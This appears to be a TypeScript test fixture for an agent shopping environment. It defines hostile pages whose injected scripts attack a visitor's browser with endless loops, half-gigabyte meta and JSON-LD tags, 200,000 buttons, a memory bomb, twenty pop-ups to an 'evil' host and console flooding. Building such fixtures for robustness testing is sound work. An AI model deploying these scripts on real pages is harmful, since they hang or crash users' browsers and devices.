import { type Html, html, written } from '../web/html.ts'
import { evilHost } from './collect.ts'

type Attack = { readonly about: string; readonly script: string }

const huge = `'x'.repeat(58e6)`
const nine = (what: string) => `for (let i = 0; i < 9; i++) { ${what} }`

/** Pages that attack the browser of who buys there, and with it whoever else buys at that time. */
const attacks: Readonly<Record<string, Attack>> = {
  loops: { about: 'Its script never ends.', script: 'setTimeout(() => { for (;;); }, 50)' },
  'giant-meta': {
    about: 'A script writes half a gigabyte into its head.',
    script: nine(
      `const one = document.createElement('meta'); one.name = 'og:title'; one.content = ${huge}; document.head.append(one)`,
    ),
  },
  'giant-data': {
    about: 'A script describes the product in half a gigabyte.',
    script: nine(
      `const one = document.createElement('script'); one.type = 'application/ld+json'; one.text = ${huge}; document.head.append(one)`,
    ),
  },
  'giant-page': {
    about: 'A script adds two hundred thousand buttons.',
    script: `for (let i = 0; i < 2e5; i++) document.body.append(Object.assign(document.createElement('button'), { textContent: 'Press ' + i }))`,
  },
  'memory-bomb': {
    about: 'A script takes all memory that it gets.',
    script: `setTimeout(() => { const all = []; for (;;) all.push(new Array(1e6).fill(all.length)) }, 50)`,
  },
  windows: {
    about: 'A script opens twenty windows.',
    script: `for (let i = 0; i < 20; i++) open('https://${evilHost}/agents/window-' + i)`,
  },
  talks: {
    about: 'A script says more than anybody can hear.',
    script: `setInterval(() => { for (let i = 0; i < 1e4; i++) console.log(i, ${huge}.slice(0, 1e4)) })`,
  },
}

export const browserAttacks: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries(attacks).map(([handle, { about }]) => [handle, about]),
)

export function attackOnBrowser(handle: string): Html | undefined {
  const attack = attacks[handle]
  return attack && html`${written(`<script>${attack.script}</script>`)}`
}
